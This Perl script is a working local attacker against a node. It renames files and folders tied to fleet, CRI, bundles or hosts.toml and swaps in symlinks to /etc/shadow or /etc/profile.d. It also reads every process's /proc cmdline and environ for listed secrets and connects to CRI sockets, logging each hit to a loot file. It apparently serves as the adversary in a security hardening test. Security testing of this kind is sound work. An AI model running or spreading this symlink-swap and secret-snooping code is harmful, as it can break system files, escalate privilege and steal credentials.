# A user of the node who may not become root, and wants to: swaps whatever root or fleet lays where
# this user can move it for a link to a secret or into a folder of root's, reads what it can, and
# connects to every socket that it can, until it is stopped. In: the seconds it goes on at most, a
# file for the loot, and one with what must not be read.
use strict;
use warnings;
use Socket;
my ($seconds, $loot, $wanted) = @ARGV;
open(my $list, '<', $wanted) or die;
chomp(my @needles = <$list>);
my $end = time + $seconds;
$SIG{TERM} = sub { $end = 0 };
my $me = $>;
my ($rounds, $struck) = (0, 0);

sub note { open(my $out, '>>', $loot) or return; print $out "@_\n"; close $out }

sub readable {
    my ($path) = @_;
    return unless open(my $in, '<', $path);
    my $got = sysread($in, my $text, 65536);
    return unless $got;
    for my $needle (@needles) { note("read $needle in $path") if index($text, $needle) >= 0 }
}

sub speak { # to a socket that leads to CRI: HTTP/2's first words bring settings back
    my ($path) = @_;
    socket(my $sock, AF_UNIX, SOCK_STREAM, 0) or return;
    connect($sock, pack_sockaddr_un($path)) or return;
    note("connected to $path");
}

sub strike {
    my ($folder, $deep) = @_;
    opendir(my $dir, $folder) or return;
    my @names = grep { !/^\.\.?$/ } readdir $dir;
    closedir $dir;
    my $mine = -w $folder;
    for my $name (@names) {
        my $path = "$folder/$name";
        next if $path =~ /\.aside|\/loot/;
        my @about = lstat $path or next;
        my $kind = $about[2] & 0170000;
        next if $kind == 0120000;
        speak($path) if $kind == 0140000 && $path =~ /fleet|cri/;
        my $ours = $name =~ /fleet|cri\.sock|bundle|hosts\.toml/;
        if ($kind == 0040000) {
            strike($path, $deep - 1) if $deep && ($ours || $about[4] == $me);
            next unless $mine && $ours;
            rename($path, "$path.aside$rounds") and symlink('/etc/profile.d', $path) and $struck++;
            next;
        }
        readable($path) if $kind == 0100000;
        next unless $mine && $ours;
        rename($path, "$path.aside$rounds") or next;
        symlink('/etc/shadow', $path) and $struck++;
    }
}

sub snoop { # command lines and environments of every process
    opendir(my $dir, '/proc') or return;
    for my $pid (grep { /^\d+$/ } readdir $dir) {
        next if $pid == $$;
        readable("/proc/$pid/cmdline");
        readable("/proc/$pid/environ");
    }
}

while (time < $end) {
    $rounds++;
    strike('/tmp', 2);
    strike($_, 1) for glob('/run/fleet* /var/lib/fleet*'), "$ENV{HOME}/certs.d";
    strike('/run', 0);
    snoop() if $rounds % 20 == 0;
}
print "$rounds rounds, $struck struck\n";
